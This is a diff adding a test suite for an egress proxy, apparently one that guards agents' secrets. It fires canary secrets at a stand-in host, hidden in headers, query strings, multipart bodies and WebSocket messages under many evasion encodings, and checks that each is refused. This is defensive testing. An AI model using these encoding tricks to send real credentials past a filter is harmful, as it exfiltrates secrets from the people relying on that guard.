@@ -1,0 +1,271 @@
+// Class 3 (issue 15): detection of placeholders and real secret values wherever a request carries
+// them, in whatever spelling a server will decode. An agent sends, to a host the secret is not
+// bound to, either the placeholder of a secret or its real value (learned elsewhere), spelled by
+// the suite's independent oracle (test/attacks/spelling-oracle.ts: escape families mixed per
+// character, quoted-printable, base64 wrapped at any width by any blank, hex with separators)
+// and placed in the head (header values and names, cookies, query values and keys, as the URL
+// decodes them) or the body (text, JSON, form, multipart parts, nested multiparts, UTF-16,
+// behind 6 KiB of text), with or without a content coding (gzip, deflate, br). Asserted every
+// time: a refusal (problem+json), and the target never receives the value in any spelling.
+import t from 'tap';
+import fc from 'fast-check';
+import zlib from 'node:zlib';
+import { HttpProxyAgent } from 'http-proxy-agent';
+import WebSocket from 'ws';
+import net from 'node:net';
+import { exchange, isProblem, parseResponses, rawToProxy, startTestAirlock, startUpstream, viaProxy } from './helpers.ts';
+import { encodeDoc, reveal, spelling, type Spelled } from './spelling-oracle.ts';
+import { startWsUpstream } from './websocket-helpers.ts';
+
+process.env.AIRLOCK_MASTER_KEY ??= '7b'.repeat(32);
+const SECRET = 'sk_live_DETECT_CANARY_0123456789abcdefXYZ';
+const runs = Number(process.env.AIRLOCK_FUZZ_RUNS_LIVE ?? 60);
+const seed = process.env.AIRLOCK_FUZZ_SEED ? Number(process.env.AIRLOCK_FUZZ_SEED) : undefined;
+
+const allowed = await startUpstream(t, { handler: (_req, res) => res.end('ok') });
+const other = await startUpstream(t, { handler: (_req, res) => res.end('ok') });
+const otherWs = await startWsUpstream(t);
+const a = await startTestAirlock(t, {
+  policy: 'exfil', secrets: { api: SECRET },
+  resolve: ['allowed.example=127.0.0.1', 'other.example=127.0.0.1'],
+  allowPrivate: [`127.0.0.1:${allowed.port}`, `127.0.0.1:${other.port}`, `127.0.0.1:${otherWs.port}`],
+});
+const PH = a.placeholders.api!;
+const otherUrl = `http://other.example:${other.port}`;
+
+type Options = Parameters<typeof viaProxy>[2] & {};
+
+/** Sends to other.example; the refusal and what the target got. */
+async function attempt(url: string, opts: Options): Promise<{ status: number; problem: boolean; leaked: string | undefined; reached: boolean }> {
+  const before = other.received.length;
+  const bytesBefore = other.bytes().length;
+  const r = await viaProxy(a.port, url, { auth: a.auth, ...opts });
+  const got = other.bytes().slice(bytesBefore);
+  const inflated = other.received.slice(before).map((q) => q.body).map((b) => { try { return zlib.gunzipSync(b).toString('latin1'); } catch { return ''; } }).join('');
+  return {
+    status: r.status, problem: isProblem(r), reached: other.received.length > before,
+    leaked: reveal(got, SECRET) ?? reveal(got, PH) ?? reveal(inflated, SECRET) ?? reveal(inflated, PH),
+  };
+}
+
+const B = 'detect-boundary';
+const part = (headers: string, body: string): string => `--${B}\r\nContent-Disposition: form-data; name="note"\r\n${headers}\r\n${body}\r\n--${B}--\r\n`;
+const coded = (coding: string, body: Buffer): Buffer =>
+  coding === 'gzip' ? zlib.gzipSync(body) : coding === 'deflate' ? zlib.deflateSync(body) : coding === 'br' ? zlib.brotliCompressSync(body) : body;
+
+/** uuencode (what `Content-Transfer-Encoding: x-uuencode` declares). */
+function uuencode(text: string): string {
+  const b = Buffer.from(text, 'latin1');
+  const lines: string[] = [];
+  for (let i = 0; i < b.length; i += 45) {
+    const chunk = b.subarray(i, i + 45);
+    let line = String.fromCharCode(32 + chunk.length);
+    for (let j = 0; j < chunk.length; j += 3) {
+      const n = ((chunk[j] ?? 0) << 16) | ((chunk[j + 1] ?? 0) << 8) | (chunk[j + 2] ?? 0);
+      for (const k of [18, 12, 6, 0]) line += String.fromCharCode(((n >> k) & 63) === 0 ? 96 : 32 + ((n >> k) & 63));
+    }
+    lines.push(line);
+  }
+  return `begin 644 note.txt\r\n${lines.join('\r\n')}\r\n\`\r\nend`;
+}
+const qpAll = (text: string): string => [...Buffer.from(text, 'latin1')].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
+const b64Lines = (text: string): string => Buffer.from(text, 'latin1').toString('base64').replace(/.{76}(?=.)/g, '$&\r\n');
+/** A part's content under a declared transfer encoding, as a MIME writer produces it. */
+const transferEncoded: Record<string, (text: string) => string> = { base64: b64Lines, 'quoted-printable': qpAll, 'x-uuencode': uuencode };
+
+/** Where the spelled text goes: a request to other.example. */
+type Place = (text: string, opts: { coding: string; padded: boolean; utf16: boolean }) => { url: string; opts: Options } | undefined;
+const HEADER_SAFE = /^[\t\x20-\x7e]*$/;
+const TOKEN = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/;
+const pad = 'Lorem ipsum dolor sit amet. '.repeat(220);
+
+const headPlaces: Record<string, Place> = {
+  'header value': (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { 'x-note': ` ${s} ` } } } : undefined),
+  'header name': (s) => (TOKEN.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { [`x-${s}`]: '1' } } } : undefined),
+  cookie: (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { cookie: `theme=dark; n=${s}` } } } : undefined),
+  'query value': (s) => ({ url: `${otherUrl}/x?q=${encodeURIComponent(s)}`, opts: {} }),
+  'query value, blanks as +': (s) => ({ url: `${otherUrl}/x?q=${encodeURIComponent(s).replace(/%20/g, '+')}`, opts: {} }),
+  'query key': (s) => ({ url: `${otherUrl}/x?${encodeURIComponent(s)}=1`, opts: {} }),
+  'path segment': (s) => ({ url: `${otherUrl}/files/${encodeURIComponent(s)}`, opts: {} }),
+  authorization: (s) => (HEADER_SAFE.test(s) ? { url: `${otherUrl}/x`, opts: { headers: { authorization: `Bearer ${s}` } } } : undefined),
+};
+
+const bodyPlaces: Record<string, Place> = {
+  'text body': (s, o) => body('text/plain; charset=utf-8', `${o.padded ? pad : ''}note: ${s}\n`, o),
+  'JSON string': (s, o) => body('application/json', JSON.stringify({ pad: o.padded ? pad : '', note: s }), o),
+  'form field': (s, o) => body('application/x-www-form-urlencoded', `pad=${o.padded ? encodeURIComponent(pad) : ''}&note=${encodeURIComponent(s)}`, o),
+  'multipart part': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Type: text/plain\r\n', `${o.padded ? pad : ''}${s}`), o),
+  'multipart part, quoted-printable label': (s, o) => body(`multipart/form-data; boundary=${B}`, part('Content-Transfer-Encoding: quoted-printable\r\n', `${o.padded ? pad : ''}${s}`), o),
+  'multipart filename': (s, o) => (HEADER_SAFE.test(s) && !s.includes('"') ? body(`multipart/form-data; boundary=${B}`, `--${B}\r\nContent-Disposition: form-data; name="f"; filename="${s}"\r\n\r\n${o.padded ? pad : 'x'}\r\n--${B}--\r\n`, o) : undefined),
+  'multipart part under a declared transfer encoding': (s, o) => {
+    const cte = (['base64', 'quoted-printable', 'x-uuencode'] as const)[s.length % 3]!;
+    return body(`multipart/form-data; boundary=${B}`, part(`Content-Transfer-Encoding: ${cte}\r\n`, transferEncoded[cte]!(`${o.padded ? pad : ''}${s}`)), o);
+  },
+  'nested multipart inside a base64 part': (s, o) => body(`multipart/form-data; boundary=${B}`,
+    part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n',
+      b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qpAll(`${o.padded ? pad : ''}${s}`)}\r\n--inner--\r\n`)), o),
+  'nested multipart': (s, o) => body(`multipart/form-data; boundary=${B}`,
+    part('Content-Type: multipart/mixed; boundary=inner\r\n', `--inner\r\nContent-Type: text/plain\r\n\r\n${o.padded ? pad : ''}${s}\r\n--inner--`), o),
+};
+
+function body(type: string, text: string, o: { coding: string; utf16: boolean }): { url: string; opts: Options } {
+  const utf16 = o.utf16 && type.startsWith('text/plain');
+  const bytes = utf16 ? encodeDoc(text, 'utf16le', true) : Buffer.from(text, 'latin1');
+  const headers: Record<string, string> = { 'content-type': utf16 ? 'text/plain; charset=utf-16' : type };
+  if (o.coding !== 'none') headers['content-encoding'] = o.coding;
+  return { url: `${otherUrl}/notes`, opts: { method: 'POST', headers, body: coded(o.coding, bytes) } };
+}
+
+t.test('control: the same places without a secret pass, compressed or not; the bound slot still injects', async (t) => {
+  for (const [name, place] of Object.entries({ ...headPlaces, ...bodyPlaces })) {
+    for (const coding of ['none', 'gzip']) {
+      const p = place('plain-words-nothing-secret', { coding, padded: true, utf16: false });
+      if (!p) continue;
+      const r = await viaProxy(a.port, p.url, { auth: a.auth, ...p.opts });
+      t.equal(r.status, 200, `${name} (${coding}): passes`);
+    }
+  }
+  const r = await viaProxy(a.port, `http://allowed.example:${allowed.port}/v1`, {
+    auth: a.auth, method: 'POST', headers: { authorization: `Bearer ${PH}`, 'content-type': 'application/json', 'content-encoding': 'gzip' }, body: zlib.gzipSync('{"a":1}'),
+  });
+  t.equal(r.status, 200, 'a gzip body to the bound host, placeholder in its slot: injected and passed');
+  t.equal(allowed.received.at(-1)?.headers.authorization, `Bearer ${SECRET}`, 'the bound host got the value in its slot');
+});
+
+t.test('the spellings that got through before: compressed bodies, quoted-printable, narrow base64, uuencode, nested MIME layers, UTF-16, split by blanks', async (t) => {
+  const b64 = (v: string, width: number, eol: string): string => Buffer.from(v).toString('base64').replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
+  const qp = (v: string): string => [...Buffer.from(v)].map((x) => `=${x.toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/.{72}/g, '$&=\r\n');
+  for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
+    const cases: Array<[string, string, Options]> = [
+      ['gzip text, value past the 4 KiB preview', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: zlib.gzipSync(`${pad} k=${v}`) }],
+      ['gzip multipart', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}`, 'content-encoding': 'gzip' }, body: zlib.gzipSync(part('', v)) }],
+      ['br text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'br' }, body: zlib.brotliCompressSync(`k=${v}`) }],
+      ['multipart quoted-printable, every byte escaped, soft breaks', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(v)) }],
+      ['multipart base64 wrapped at 4 columns', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: base64\r\n', b64(v, 4, '\r\n')) }],
+      ['multipart x-uuencode part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: x-uuencode\r\n', uuencode(v)) }],
+      ['base64 part holding a nested multipart with a quoted-printable part', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` },
+        body: part('Content-Type: multipart/mixed; boundary=inner\r\nContent-Transfer-Encoding: base64\r\n', b64Lines(`--inner\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${qp(v)}\r\n--inner--\r\n`)) }],
+      ['quoted-printable part holding base64', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${B}` }, body: part('Content-Transfer-Encoding: quoted-printable\r\n', qp(Buffer.from(v).toString('base64'))) }],
+      ['UTF-16LE text', `${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain; charset=utf-16le' }, body: Buffer.from(`k=${v}`, 'utf16le') }],
+      ['header base64 split by a tab every 4', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 4, '\t') } }],
+      ['header base64 split by a blank every 3', `${otherUrl}/n`, { headers: { 'x-a': b64(v, 3, ' ') } }],
+      ['header hex with colons', `${otherUrl}/n`, { headers: { 'x-a': Buffer.from(v).toString('hex').replace(/(..)(?=.)/g, '$1:') } }],
+      ['query base64 split by %20', `${otherUrl}/n?d=${b64(v, 6, '%20')}`, {}],
+      ['query base64 split by +', `${otherUrl}/n?d=${b64(v, 6, '+')}`, {}],
+      ['query base64 split by %0A', `${otherUrl}/n?d=${b64(v, 5, '%0A')}`, {}],
+    ];
+    for (const [label, url, opts] of cases) {
+      const r = await attempt(url, opts);
+      t.equal(r.status, 403, `${what}, ${label}: refused`);
+      t.ok(r.problem, `${what}, ${label}: problem+json`);
+      t.equal(r.leaked, undefined, `${what}, ${label}: the target never got it`);
+    }
+  }
+});
+
+t.test('a body under a content coding or a charset Airlock cannot read is refused (it cannot be checked)', async (t) => {
+  for (const coding of ['zstd', 'compress', 'x-custom', 'gzip, zstd']) {
+    const r = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': coding }, body: `k=${SECRET}` });
+    t.equal(r.status, 415, `${coding}: 415`);
+    t.ok(r.problem, `${coding}: problem+json`);
+    t.notOk(r.reached, `${coding}: nothing reached the target`);
+  }
+  const r = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, body: Buffer.from('not gzip at all') });
+  t.equal(r.status, 415, 'a body that does not decode under its coding: 415');
+  // Charsets Python servers decode (Django reads a form in its declared charset) and Airlock cannot.
+  const utf7 = (v: string): string => `+${Buffer.from(v, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
+  const ebcdic = Buffer.from([...SECRET].map((c) => ({ _: 0x6d } as Record<string, number>)[c] ?? (/[0-9]/.test(c) ? 0xf0 + Number(c) : /[a-i]/.test(c) ? 0x81 + c.charCodeAt(0) - 97 : /[j-r]/.test(c) ? 0x91 + c.charCodeAt(0) - 106 : /[s-z]/.test(c) ? 0xa2 + c.charCodeAt(0) - 115 : /[A-I]/.test(c) ? 0xc1 + c.charCodeAt(0) - 65 : /[J-R]/.test(c) ? 0xd1 + c.charCodeAt(0) - 74 : 0xe2 + c.charCodeAt(0) - 83)));
+  for (const [label, type, body] of [
+    ['UTF-7 form', 'application/x-www-form-urlencoded; charset=utf-7', `note=${encodeURIComponent(utf7(SECRET))}`],
+    ['UTF-7 text, the placeholder', 'text/plain; charset=UTF-7', utf7(PH)],
+    ['EBCDIC (cp500) text', 'text/plain; charset=cp500', ebcdic],
+  ] as const) {
+    const u = await attempt(`${otherUrl}/n`, { method: 'POST', headers: { 'content-type': type }, body });
+    t.equal(u.status, 415, `${label}: 415`);
+    t.notOk(u.reached, `${label}: nothing reached the target`);
+  }
+  const latin1 = await viaProxy(a.port, `${otherUrl}/n`, { auth: a.auth, method: 'POST', headers: { 'content-type': 'text/plain; charset=iso-8859-1' }, body: Buffer.from('caf\xe9', 'latin1') });
+  t.equal(latin1.status, 200, 'control: a charset Airlock reads (ISO-8859-1) passes');
+});
+
+t.test('property: the placeholder or the value, in any spelling, in any place of the head or the body, coded or not', async (t) => {
+  const places = { ...headPlaces, ...bodyPlaces };
+  const arb = fc.record({
+    secret: fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'),
+    place: fc.constantFrom(...Object.keys(places)),
+    coding: fc.constantFrom('none', 'none', 'gzip', 'deflate', 'br'),
+    padded: fc.boolean(),
+    utf16: fc.boolean(),
+  }).chain((c) => spelling(c.secret === 'value' ? SECRET : PH).map((s: Spelled) => ({ ...c, spelled: s })));
+  let sent = 0;
+  await fc.assert(
+    fc.asyncProperty(arb, async (c) => {
+      const p = places[c.place]!(c.spelled.text, c);
+      if (!p) return; // a spelling that cannot go there (a line break in a header, a blank in a name)
+      sent++;
+      const r = await attempt(p.url, p.opts);
+      const what = `${c.secret} ${c.spelled.how} in ${c.place} (${c.coding}${c.padded ? ', padded' : ''}${c.utf16 ? ', utf-16' : ''})`;
+      // A path whose spelling holds %2F or %5C is refused as ambiguous (400) before the guard looks.
+      const refused = r.status === 403 || (c.place === 'path segment' && r.status === 400);
+      if (!refused || !r.problem) throw new Error(`${what}: answered ${r.status}`);
+      if (r.leaked) throw new Error(`${what}: the target got it (${r.leaked})`);
+    }),
+    { numRuns: runs, ...(seed !== undefined ? { seed } : {}) },
+  );
+  t.ok(sent > runs / 3, `${sent} of ${runs} generated requests could be sent`);
+});
+
+/** One WebSocket to other.example that sends `messages`; resolves with how it ended. */
+function wsSend(path: string, messages: string[]): Promise<{ opened: boolean; closed: number }> {
+  return new Promise((resolve) => {
+    const ws = new WebSocket(`ws://other.example:${otherWs.port}${path}`, { agent: new HttpProxyAgent(a.proxyUrl) });
+    let opened = false;
+    const timer = setTimeout(() => ws.terminate(), 5000);
+    ws.on('open', () => {
+      opened = true;
+      for (const m of messages) ws.send(m);
+    });
+    ws.on('error', () => undefined);
+    ws.on('close', (code) => {
+      clearTimeout(timer);
+      resolve({ opened, closed: code });
+    });
+  });
+}
+
+t.test('property: WebSocket messages to a host the secret is not bound to, in any spelling, raw or as JSON strings', async (t) => {
+  const control = await wsSend('/ws-control', ['hello', JSON.stringify({ note: 'nothing secret' })]);
+  t.ok(control.opened, 'control: the tunnel opens');
+  let n = 0;
+  await fc.assert(
+    fc.asyncProperty(fc.constantFrom<'value' | 'placeholder'>('value', 'placeholder'), fc.boolean(), fc.nat(), async (which, asJson, salt) => {
+      const s = fc.sample(spelling(which === 'value' ? SECRET : PH), { numRuns: 1, seed: salt })[0]!;
+      const path = `/ws-${n++}`;
+      const message = asJson ? JSON.stringify({ note: s.text }) : `note: ${s.text}`;
+      const r = await wsSend(path, ['hello', message]);
+      const got = otherWs.conn(path)?.messages.map((m) => m.data.toString('latin1')).join('\n') ?? '';
+      const leaked = reveal(got, SECRET) ?? reveal(got, PH);
+      if (!r.opened) throw new Error(`${which} ${s.how}: the tunnel did not open`);
+      if (leaked) throw new Error(`${which} ${s.how}${asJson ? ' (JSON)' : ''}: the upstream got it (${leaked}); ${JSON.stringify(message).slice(0, 200)}`);
+    }),
+    { numRuns: Math.max(8, Math.ceil(runs / 6)), ...(seed !== undefined ? { seed } : {}) },
+  );
+  t.ok(otherWs.conn('/ws-control')?.messages.length === 2, 'control: both plain messages arrived');
+});
+
+t.test('URL userinfo carrying the value or the placeholder: refused forwarded and inside a tunnel (absolute-form)', async (t) => {
+  for (const [what, v] of [['the value', SECRET], ['the placeholder', PH]] as const) {
+    const target = `http://user:${encodeURIComponent(v)}@other.example:${other.port}/u`;
+    const before = other.received.length;
+    const forwarded = parseResponses((await rawToProxy(a.port, `GET ${target} HTTP/1.1\r\nHost: other.example:${other.port}\r\nProxy-Authorization: ${a.auth}\r\nConnection: close\r\n\r\n`, { responses: 1 })).text)[0];
+    t.ok(forwarded && forwarded.status >= 400 && isProblem(forwarded), `${what}, forwarded: refused (${forwarded?.status})`);
+    const socket = net.connect(a.port, '127.0.0.1');
+    const reply = await exchange(socket, [
+      `CONNECT other.example:${other.port} HTTP/1.1\r\nHost: other.example:${other.port}\r\nProxy-Authorization: ${a.auth}\r\n\r\n`,
+      `GET ${target} HTTP/1.1\r\nHost: other.example:${other.port}\r\nConnection: close\r\n\r\n`,
+    ], { responses: 1, gapMs: 50 });
+    const tunneled = parseResponses(reply.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, ''))[0];
+    t.ok(tunneled && tunneled.status >= 400 && isProblem(tunneled), `${what}, in a tunnel: refused (${tunneled?.status})`);
+    t.equal(other.received.length, before, `${what}: nothing reached the target`);
+  }
+});
